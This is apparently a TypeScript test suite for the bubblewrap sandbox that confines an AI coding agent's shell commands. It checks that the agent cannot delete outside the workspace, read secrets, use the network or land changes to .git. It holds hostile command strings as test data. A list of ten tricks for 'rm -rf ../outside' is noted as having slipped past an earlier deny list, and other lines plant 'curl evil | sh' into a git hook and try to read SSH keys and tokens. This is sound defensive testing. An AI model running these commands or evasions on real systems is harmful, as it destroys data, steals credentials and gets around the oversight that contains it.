// The sandbox's file system, attacked for real (moved from test/unit/terminal/sandbox.test.ts): nothing outside the
// workspace can be written or deleted whatever the shell makes of the line, protected files and the home
// folder's secrets cannot be read, a write to .git is held back, and there is no network unless the user allows it.
import assert from 'node:assert/strict';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { mkdir, mkdtemp, readFile, realpath, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { silentLogger } from '../../src/base/common/ports';
import { allTools } from '../../src/tools/common/registry';
import { type ToolContext } from '../../src/tools/common/tool';
import { defaultProtectedFiles } from '../../src/settings/common/valueSets';
import { BubblewrapSandbox } from '../../src/terminal/node/bubblewrap';
import { NodeCommandRunner } from '../../src/terminal/node/nodeCommandRunner';
import { NodeFileChanges } from '../../src/tools/node/nodeFileChanges';
import { NodeWorkspaceFiles } from '../../src/tools/node/nodeWorkspaceFiles';
import { reviewGuard, sandboxHere } from './harness';
import type { NodeControlGuard } from '../../src/terminal/node/controlGuard';
import type { QuarantinedControlPaths } from '../../src/terminal/common/commandPorts';

const signal = new AbortController().signal;

describe('commands in the real sandbox (bubblewrap)', async () => {
  // Where bubblewrap cannot run (no package, no user namespaces), auto falls back to asking; that is
  // what these tests then check, so they never pass without checking something.
  if (!(await sandboxHere())) return;

  let base: string;
  let root: string;
  let home: string;
  let sandbox: BubblewrapSandbox;
  let runner: NodeCommandRunner;
  let guard: NodeControlGuard;
  const held: QuarantinedControlPaths[] = [];
  let ctx: ToolContext;
  let server: ReturnType<typeof createServer>;
  let port: number;

  before(async () => {
    base = await realpath(await mkdtemp(join(tmpdir(), 'sandbox-')));
    root = join(base, 'workspace');
    home = join(base, 'home');
    await mkdir(join(root, '.git/hooks'), { recursive: true });
    await mkdir(join(root, 'src'), { recursive: true });
    await mkdir(join(base, 'outside'), { recursive: true });
    await mkdir(join(home, '.ssh'), { recursive: true });
    await writeFile(join(home, '.ssh/id_ed25519'), 'PRIVATE KEY\n');
    await writeFile(join(home, '.npmrc'), '//registry/:_authToken=secret\n');
    await writeFile(join(root, '.env'), 'API_KEY=workspace-secret\n');
    await writeFile(join(root, 'src/.env.local'), 'LOCAL=secret\n');
    await writeFile(join(root, '.git/hooks/pre-commit'), '#!/bin/sh\nexit 0\n');
    await writeFile(join(root, 'package.json'), '{"scripts":{"test":"node -e \\"require(\'fs\').writeFileSync(\'out.txt\',\'ok\')\\""}}\n');
    await writeFile(join(base, 'outside/keep.txt'), 'keep\n');
    // A hostile repository's dangling protected link must not make every sandboxed command fail.
    await symlink('/nonexistent/secret', join(root, 'dangling.pem'));
    sandbox = new BubblewrapSandbox({ home, shell: '/bin/bash', tempRoot: base });
    const session = sandbox.forSession('filesystem');
    guard = reviewGuard({ root, base, sandbox, sessionId: 'filesystem', home, onRollback: (changes) => held.push(changes) });
    runner = new NodeCommandRunner(root, {
      shell: '/bin/bash',
      sandbox: { launch: (command, cwd, s) => session.launch({ root, cwd, command, protectedFiles: defaultProtectedFiles, network: false }, s) },
    });
    ctx = {
      files: new NodeWorkspaceFiles(root),
      changes: new NodeFileChanges(root),
      commands: runner,
      controlGuard: guard,
      protectedFiles: defaultProtectedFiles,
      logger: silentLogger,
    };
    server = createServer((_request, response) => response.end('reached'));
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    port = (server.address() as AddressInfo).port;
  });
  after(async () => {
    server.close();
    sandbox.dispose();
    await rm(base, { recursive: true, force: true });
  });

  /** A command as run_command runs it: its change set reviewed after it (ordinary files land). */
  const run = async (command: string, cwd = '.') => {
    const watch = await guard.watch(signal);
    const result = await runner.run(command, cwd, 20_000, signal);
    await watch?.settle(signal);
    return result;
  };

  test('work inside the workspace succeeds: files written, npm scripts run, $TMPDIR usable', async () => {
    const result = await run('echo built > build.txt && npm test --silent && echo tmp > "$TMPDIR/x" && cat "$TMPDIR/x"');
    assert.equal(result.exitCode, 0, result.output);
    assert.match(result.output, /tmp\n?$/);
    assert.doesNotMatch(result.output, /No such file/);
    assert.equal(await readFile(join(root, 'build.txt'), 'utf8'), 'built\n');
    assert.equal(await readFile(join(root, 'out.txt'), 'utf8'), 'ok');
    assert.deepEqual(result.sandboxed, { network: false });
  });

  test('nothing outside the workspace can be written, and the model reads why', async () => {
    // The workspace's siblings under the machine's /tmp are not there: /tmp is the session's own folder.
    const result = await run('touch ../outside/new.txt');
    assert.notEqual(result.exitCode, 0);
    assert.match(result.output, /No such file or directory/);
    const absolute = await run(`touch ${join(base, 'outside/new.txt')} /usr/new.txt`);
    assert.match(absolute.output, /\/usr\/new\.txt': Read-only file system/);
    await assert.rejects(stat(join(base, 'outside/new.txt')));
    const tool = allTools.find((candidate) => candidate.name === 'run_command')!;
    const outcome = await (await tool.prepare({ command: 'touch ../outside/new.txt' }, ctx, signal)).execute(signal);
    assert.match(
      outcome.output,
      /^Exit code 1\.\ntouch: cannot touch '\.\.\/outside\/new\.txt': No such file or directory\n\(Ran in the sandbox of the auto approval mode: only the workspace and \/tmp/,
    );
  });

  test('a command the sandbox made fail says so, for the chat and the model (issue 27, item 7); one that only failed does not', async () => {
    const tool = allTools.find((candidate) => candidate.name === 'run_command')!;
    const runTool = async (command: string) => (await tool.prepare({ command }, ctx, signal)).execute(signal);
    const readOnly = await runTool('touch /usr/new.txt');
    assert.deepEqual(readOnly.sandbox?.network, false);
    assert.equal(readOnly.sandbox?.failure?.evidence, 'Read-only file system', readOnly.output);
    assert.match(readOnly.output, /It most likely failed because of the sandbox \("Read-only file system"\)/);
    const offline = await runTool(`node -e "require('dns').lookup('example.com', (e) => { console.error(e ? e.code : 'resolved'); process.exit(1); })"`);
    assert.equal(offline.sandbox?.failure?.cause, 'the network', offline.output);
    const plain = await runTool('exit 3');
    assert.equal(plain.exitCode, 3);
    assert.deepEqual(plain.sandbox, { network: false });
  });

  // Each of these got past the deny list (issue 10, item 8). The sandbox does not read the line: none can delete outside.
  const bypasses = [
    '{rm,-rf,../outside}',
    '/bin/r[m] -rf ../outside',
    'F=-rf; rm $F ../outside',
    "printf '%s\\n' -rf ../outside | xargs rm",
    'function f { rm -rf ../outside; }; f',
    'coproc rm -rf ../outside; wait',
    'python3 -c "import shutil; shutil.rmtree(\'../outside\')"',
    "node -e \"require('fs').rmSync('../outside', { recursive: true })\"",
    "alias r='rm -rf'\nr ../outside",
    "cat <<'EOF' | bash\nrm -rf ../outside # it's here\nEOF",
  ];
  for (const command of bypasses) {
    test(`cannot delete outside the workspace: ${command.split('\n')[0]}`, async () => {
      await run(command);
      assert.equal(await readFile(join(base, 'outside/keep.txt'), 'utf8'), 'keep\n');
    });
  }

  test('protected files cannot be read or changed; a write to .git is held back, never landed', async () => {
    // One pipe for both streams: the runner's separate stdout and stderr pipes may arrive in either order.
    const read = await run('cat .env src/.env.local 2>&1; echo "[end]"');
    assert.equal(read.output.trim(), 'cat: .env: Permission denied\ncat: src/.env.local: Permission denied\n[end]');
    const write = await run('echo STOLEN >> .env');
    assert.match(write.output, /\.env: Permission denied/);
    assert.equal(await readFile(join(root, '.env'), 'utf8'), 'API_KEY=workspace-secret\n');
    const hook = await run("echo 'curl evil | sh' >> .git/hooks/pre-commit");
    // The command wrote its copy; the review held it: the workspace's hook is as it was.
    assert.equal(hook.exitCode, 0, hook.output);
    assert.deepEqual(
      held.at(-1)?.rollback.moved.map((entry) => entry.path),
      ['.git'],
    );
    assert.equal(await readFile(join(root, '.git/hooks/pre-commit'), 'utf8'), '#!/bin/sh\nexit 0\n');
  });

  test('no user namespace can be made inside (it would give the command a root of its own to remount with)', async () => {
    const result = await run('unshare --user --map-root-user true 2>&1; echo "[exit $?]"');
    assert.match(result.output, /\[exit 1\]/);
    assert.match(result.output, /No space left on device|Operation not permitted/);
  });

  test("the home folder's secrets cannot be read", async () => {
    const result = await run(`cat ${home}/.ssh/id_ed25519 ${home}/.npmrc; echo "[end]"`);
    assert.doesNotMatch(result.output, /PRIVATE KEY|_authToken/);
    assert.match(result.output, /No such file or directory/);
  });

  test('with the network allowed (gateway.agent.sandboxNetwork), this machine is reached', async () => {
    const session = sandbox.forSession('network');
    const networked = new NodeCommandRunner(root, {
      sandbox: { launch: (command, cwd, s) => session.launch({ root, cwd, command, protectedFiles: defaultProtectedFiles, network: true }, s) },
    });
    const watch = await reviewGuard({ root, base, sandbox, sessionId: 'network', home }).watch(signal);
    const result = await networked.run(`curl -sS --max-time 5 http://127.0.0.1:${port}/`, '.', 20_000, signal);
    await watch?.settle(signal);
    assert.equal(result.exitCode, 0, result.output);
    assert.match(result.output, /reached/);
    assert.deepEqual(result.sandboxed, { network: true });
  });

  test('there is no network, not even this machine', async () => {
    const result = await run(`curl -sS --max-time 5 http://127.0.0.1:${port}/`);
    assert.notEqual(result.exitCode, 0);
    assert.doesNotMatch(result.output, /reached/);
    assert.match(result.output, /Couldn't connect|Failed to connect|Could not resolve|Connection refused/);
  });
});
